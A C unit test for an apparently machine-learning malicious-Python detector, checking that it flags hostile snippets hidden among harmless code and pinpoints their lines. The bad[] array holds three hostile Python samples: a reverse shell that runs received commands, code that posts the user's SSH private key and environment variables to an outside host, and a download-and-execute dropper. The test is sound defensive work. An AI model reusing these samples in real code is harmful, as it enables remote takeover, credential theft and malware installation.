// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * test_part.c - which lines of a text are judged by themselves: whole ones,
 * those around what is bad; and that a few bad lines decide wherever they
 * stand among harmless ones.
 */
#include "../test.h"

#include "judge/part.h"
#include "judging.h"

#define ROOM 400000

static const char *const files[] = { "web-server.py", "run-tool.py",
				     "purelib.py", "count-words.py" };
#define FILES (sizeof(files) / sizeof(*files))

static char *calm[FILES];
static struct mpy_bundle *bundle;

/* Other programs' statements before and behind the lines. */
struct mixture {
	char *text;
	size_t size;
	uint32_t first, last; /* the lines in the middle */
};

static void add(struct mixture *m, const char *data, size_t size)
{
	memcpy(m->text + m->size, data, size);
	m->size += size;
	m->text[m->size] = '\0';
}

static uint32_t lines(const struct mixture *m)
{
	uint32_t n = 0;

	for (size_t i = 0; i < m->size; i++)
		n += m->text[i] == '\n';
	return n;
}

/* Harmless code of so many bytes or a little more. */
static void add_calm(struct mixture *m, size_t size)
{
	size_t end = m->size + size;

	for (unsigned int i = 0; m->size < end; i++) {
		add(m, calm[i % FILES], strlen(calm[i % FILES]));
		add(m, "\n", 1);
	}
}

static void mix(struct mixture *m, size_t before, const char *middle,
		size_t behind)
{
	m->text = malloc(ROOM);
	m->size = 0;
	add_calm(m, before);
	m->first = lines(m) + 1;
	add(m, middle, strlen(middle));
	m->last = lines(m);
	add_calm(m, behind);
}

static const char *const bad[] = {
	/* commands of a stranger */
	"import socket, subprocess\n"
	"s = socket.create_connection(('192.0.2.7', 4444))\n"
	"while True:\n"
	"    got = s.recv(4096).decode()\n"
	"    out = subprocess.run(got, shell=True, capture_output=True)\n"
	"    s.send(out.stdout + out.stderr)\n",
	/* secrets */
	"import os, requests\n"
	"with open(os.path.expanduser('~/.ssh/id_rsa')) as key:\n"
	"    requests.post('https://collect.example.net/k', data=key.read())\n"
	"requests.post('https://collect.example.net/e', json=dict(os.environ))\n",
	/* a second program */
	"import os, urllib.request\n"
	"urllib.request.urlretrieve('http://192.0.2.9/x86', '/tmp/.x')\n"
	"os.chmod('/tmp/.x', 0o755)\n"
	"os.system('nohup /tmp/.x >/dev/null 2>&1 &')\n",
};

static const size_t sizes[][2] = { { 0, 2000 },	    { 2000, 0 },
				   { 1500, 1500 },  { 0, 60000 },
				   { 60000, 0 },    { 30000, 30000 },
				   { 150000, 2000 } };

static void test_among_others(void)
{
	for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++)
		for (size_t k = 0; k < sizeof(sizes) / sizeof(*sizes); k++) {
			struct mixture m;
			struct mpy_verdict *v;
			bool within = false;

			mix(&m, sizes[k][0], bad[i], sizes[k][1]);
			v = judge(bundle, m.text, m.size);
			for (size_t r = 0; r < v->n_reasons; r++)
				within |= v->reasons[r].line >= m.first &&
					  v->reasons[r].line <= m.last;
			if (v->label != MPY_MALICIOUS || !within)
				printf("# lines %zu, %zu before, %zu behind: "
				       "p %.4f\n", i, sizes[k][0], sizes[k][1],
				       v->probability);
			CHECK(v->label == MPY_MALICIOUS);
			CHECK(within);
			mpy_verdict_free(v);
			free(m.text);
		}
}

static void test_only_harmless(void)
{
	for (size_t k = 0; k < sizeof(sizes) / sizeof(*sizes); k++) {
		struct mixture m;
		struct mpy_verdict *v;

		mix(&m, sizes[k][0], "", sizes[k][1]);
		v = judge(bundle, m.text, m.size);
		CHECK(v->label == MPY_HARMLESS);
		mpy_verdict_free(v);
		free(m.text);
	}
}

/* A walk that keeps what is chosen. */
struct chosen {
	struct mpy_svm_room room;
	struct mpy_linear linear;
	struct mpy_token window[2 * MPY_BLOCK_TOKENS];
	size_t n_window;
	struct mpy_part parts[MPY_PARTS_MAX];
	int n;
};

static int start(void *context, struct mpy_unit *unit)
{
	struct chosen *c = context;

	mpy_svm_linear_start(bundle, &c->linear);
	if (!unit->part)
		c->n_window = 0;
	return 0;
}

static int piece(void *context, struct mpy_unit *unit)
{
	struct chosen *c = context;

	mpy_svm_linear(bundle, &unit->features, &c->room, &c->linear);
	if (unit->part)
		return 0;
	c->n_window = c->linear.best_end - c->linear.best_first;
	memcpy(c->window, unit->tokens + c->linear.best_first,
	       c->n_window * sizeof(*c->window));
	return 0;
}

static int end(void *context, struct mpy_unit *unit)
{
	(void)context;
	(void)unit;
	return 0;
}

static int layer(void *context, const struct mpy_layer *found)
{
	(void)context;
	(void)found;
	return 0;
}

static int choose(void *context, const struct mpy_unit *unit,
		  struct mpy_part parts[MPY_PARTS_MAX])
{
	struct chosen *c = context;
	const struct mpy_part_search search = { .bundle = bundle,
						.room = &c->room,
						.unit = unit,
						.window = c->window,
						.n_window = c->n_window,
						.words = true };

	c->n = mpy_part_choose(&search, parts);
	memcpy(c->parts, parts, (size_t)c->n * sizeof(*parts));
	return c->n;
}

/* Is there a part around the last line of the middle, and hardly more? */
static bool is_found(const struct chosen *c, const struct mixture *m,
		     const char *middle)
{
	size_t size = strlen(middle);
	size_t end = (size_t)(strstr(m->text, middle) - m->text) + size;

	for (int i = 0; i < c->n; i++)
		if (c->parts[i].from + 2 < end && c->parts[i].to + 1 >= end &&
		    c->parts[i].to - c->parts[i].from < size + 200)
			return true;
	return false;
}

static void test_whole_lines(void)
{
	static const struct mpy_peel_ops ops = { .start = start,
						 .piece = piece,
						 .end = end,
						 .layer = layer,
						 .parts = choose };
	struct chosen *c = calloc(1, sizeof(*c));
	struct mpy_budget budget;
	struct mixture m;

	mpy_svm_room_init(&c->room);
	for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
		mix(&m, 30000, bad[i], 30000);
		mpy_budget_init(&budget);
		CHECK(mpy_peel((uint8_t *)m.text, m.size, bundle->words,
			       &budget, &ops, c) == 0);
		CHECK(c->n > 0 && c->n <= MPY_PARTS_MAX);
		for (int k = 0; k < c->n; k++) {
			const struct mpy_part *p = &c->parts[k];
			struct mixture before = { m.text, p->from, 0, 0 };

			CHECK(p->from < p->to && p->to <= m.size);
			CHECK(!p->from || m.text[p->from - 1] == '\n');
			CHECK(p->to == m.size || m.text[p->to] == '\n');
			CHECK(p->line == lines(&before) + 1);
		}
		CHECK(is_found(c, &m, bad[i]));
		free(m.text);
	}
	mpy_svm_room_free(&c->room);
	free(c);
}

int main(void)
{
	for (size_t i = 0; i < FILES; i++) {
		char path[128];
		size_t size;

		snprintf(path, sizeof(path), GOLDEN "%s", files[i]);
		calm[i] = slurp(path, &size);
	}
	bundle = default_bundle();
	RUN(test_among_others);
	RUN(test_only_harmless);
	RUN(test_whole_lines);
	mpy_bundle_free(bundle);
	for (size_t i = 0; i < FILES; i++)
		free(calm[i]);
	return DONE();
}
